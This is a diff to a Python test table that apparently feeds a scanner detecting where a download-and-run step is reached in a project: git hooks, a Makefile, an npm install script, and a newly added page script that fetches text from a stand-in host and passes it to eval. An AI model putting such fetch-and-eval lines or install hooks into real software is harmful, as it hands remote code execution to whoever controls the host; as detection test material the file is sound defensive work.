@@ -102,6 +102,9 @@ REACHED: dict[str, tuple[Files, tuple[str, int]]] = {  # a chain at a place that
         ("tools/net.py", 2)),
     "a hooks folder": (
         {".git/config": "[core]\n\thooksPath = .hooks\n", ".hooks/pre-push": FETCH}, (".hooks/pre-push", 1)),
+    "a page's program": (
+        {"index.html": '<script type="module" src="/src/go.js"></script>\n',
+         "src/go.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("src/go.js", 1)),
     "make": ({"Makefile": "all:\n\tsh a.sh\n", "a.sh": FETCH}, ("a.sh", 1)),
     "a here-document": (
         {"package.json": '{"scripts": {"install": "sh a.sh"}}',
